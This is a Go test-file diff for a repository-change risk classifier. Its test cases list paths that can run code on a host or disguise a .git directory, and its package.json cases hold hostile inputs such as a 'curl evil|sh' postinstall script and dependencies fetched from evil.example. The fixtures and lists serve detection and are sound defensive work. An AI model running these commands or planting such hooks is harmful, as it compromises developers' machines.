@@ -218,8 +218,58 @@ func TestClassifyPath(t *testing.T) {
 		{".gitattributes", AttentionFlagged},
 		{"app.code-workspace", AttentionFlagged},
 		{".cargo/config.toml", AttentionFlagged},
-		{"package.json", AttentionNone}, // judged by its scripts
+		{"package.json", AttentionNone}, // judged by what changes in it
 		{"docs/git.md", AttentionNone},
+		// Spellings git itself refuses as .git (NTFS, HFS+).
+		{".git./config", AttentionProtected},
+		{".git /config", AttentionProtected},
+		{"git~1/config", AttentionProtected},
+		{"GIT~1/hooks/x", AttentionProtected},
+		{".git::$INDEX_ALLOCATION/config", AttentionProtected},
+		{`sub\.git\config`, AttentionProtected},
+		{".gitignore", AttentionNone},
+		{"git~x", AttentionNone},
+		{"lefthook.yaml", AttentionProtected},
+		{".lefthook/pre-commit/x.sh", AttentionProtected},
+		// What runs code on the host (issue 9, item 4).
+		{".claude/settings.json", AttentionFlagged},
+		{"sub/.claude/settings.local.json", AttentionFlagged},
+		{".mcp.json", AttentionFlagged},
+		{".devcontainer/devcontainer.json", AttentionFlagged},
+		{".devcontainer.json", AttentionFlagged},
+		{"sub/.devcontainer/Dockerfile", AttentionFlagged},
+		{".pnpmfile.cjs", AttentionFlagged},
+		{".yarn/plugins/evil.cjs", AttentionFlagged},
+		{".yarn/releases/yarn-4.cjs", AttentionFlagged},
+		{".yarn/cache/x.zip", AttentionNone},
+		{"bunfig.toml", AttentionFlagged},
+		{"crates/x/.cargo/config.toml", AttentionFlagged},
+		{"crates/x/.CARGO/config", AttentionFlagged},
+		{".cargo/registry/x", AttentionNone},
+		{"mise.toml", AttentionFlagged},
+		{"mise.local.toml", AttentionFlagged},
+		{".mise.toml", AttentionFlagged},
+		{".mise/tasks/build", AttentionFlagged},
+		{".config/mise/config.toml", AttentionFlagged},
+		{"justfile", AttentionFlagged},
+		{"Justfile", AttentionFlagged},
+		{"gradlew", AttentionFlagged},
+		{"gradle/wrapper/gradle-wrapper.properties", AttentionFlagged},
+		{"app/build.gradle.kts", AttentionFlagged},
+		{"mvnw", AttentionFlagged},
+		{".mvn/wrapper/maven-wrapper.properties", AttentionFlagged},
+		{"tests/conftest.py", AttentionFlagged},
+		{"setup.py", AttentionFlagged},
+		{".venv/lib/python3.12/site-packages/evil.pth", AttentionFlagged},
+		{".zed/tasks.json", AttentionFlagged},
+		{".forgejo/workflows/ci.yml", AttentionFlagged},
+		{".gitea/workflows/ci.yaml", AttentionFlagged},
+		{"build.rs", AttentionFlagged},
+		{"flake.nix", AttentionFlagged},
+		{"MAKEFILE", AttentionFlagged},
+		{"makefile.", AttentionFlagged}, // NTFS drops the dot
+		{"src/setup.py.txt", AttentionNone},
+		{"docs/justfile.md", AttentionNone},
 	}
 	for _, tc := range tests {
 		if got, why := ClassifyPath(tc.path); got != tc.want {
@@ -339,5 +389,66 @@ func TestInterruptedApply(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+func TestClassifyDir(t *testing.T) {
+	tests := []struct {
+		path string
+		want Attention
+	}{
+		{".vscode", AttentionFlagged},
+		{".github", AttentionFlagged},
+		{".cargo", AttentionFlagged},
+		{"sub/.cargo", AttentionFlagged},
+		{".idea", AttentionFlagged},
+		{".git", AttentionProtected},
+		{".yarn", AttentionFlagged},
+		{"src", AttentionNone},
+		{"docs/github", AttentionNone},
+	}
+	for _, tc := range tests {
+		if got, why := ClassifyDir(tc.path); got != tc.want {
+			t.Errorf("ClassifyDir(%q): got %v (%s), want %v", tc.path, got, why, tc.want)
+		}
+	}
+}
+
+// TestPackageJSONRisk: package.json is compared old against new by what
+// runs: a version bump is not flagged, a new script or a dependency from
+// outside the registry is.
+func TestPackageJSONRisk(t *testing.T) {
+	base := `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"}}`
+	tests := []struct {
+		name, new string
+		want      string // "" not flagged, else a word of the reason
+	}{
+		{"version bump", `{"name":"x","version":"1.1.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.3.0"}}`, ""},
+		{"reformatted", "{\n  \"version\": \"1.0.0\", \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"}\n}", ""},
+		{"registry dependency added", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0","lodash":"~4.17"}}`, ""},
+		{"new script", `{"name":"x","version":"1.0.0","scripts":{"test":"jest","postinstall":"curl evil|sh"},"dependencies":{"left-pad":"^1.0.0"}}`, "scripts"},
+		{"script escaped in the key", `{"name":"x","version":"1.0.0","scr\u0069pts":{"test":"curl evil|sh"},"dependencies":{"left-pad":"^1.0.0"}}`, "scripts"},
+		{"git+ dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"git+https://evil.example/x.git"}}`, "left-pad"},
+		{"github shorthand", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"devDependencies":{"y":"evil/y"}}`, "devDependencies"},
+		{"file: dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0","z":"file:../z"}}`, "z"},
+		{"link: dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"optionalDependencies":{"z":"link:/tmp/z"}}`, "z"},
+		{"tarball URL", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"https://evil.example/x.tgz"}}`, "left-pad"},
+		{"npm alias", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"npm:evil@1"}}`, "left-pad"},
+		{"nested override", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"overrides":{"a":{"b":"github:evil/b"}}}`, "overrides"},
+		{"husky hooks", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"husky":{"hooks":{"pre-commit":"evil"}}}`, "husky"},
+		{"bin", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"bin":{"ls":"evil.js"}}`, "bin"},
+		{"gypfile", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"gypfile":true}`, "gypfile"},
+		{"not JSON", `{"name":"x",`, "JSON"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			got := packageJSONRisk([]byte(base), []byte(tc.new))
+			if (tc.want == "") != (got == "") || !strings.Contains(got, tc.want) {
+				t.Errorf("got %q, want %q", got, tc.want)
+			}
+		})
+	}
+	if got := packageJSONRisk(nil, []byte(`{"name":"new","dependencies":{"a":"^1"}}`)); got != "" {
+		t.Errorf("new package.json with registry dependencies: got %q, want not flagged", got)
 	}
 }
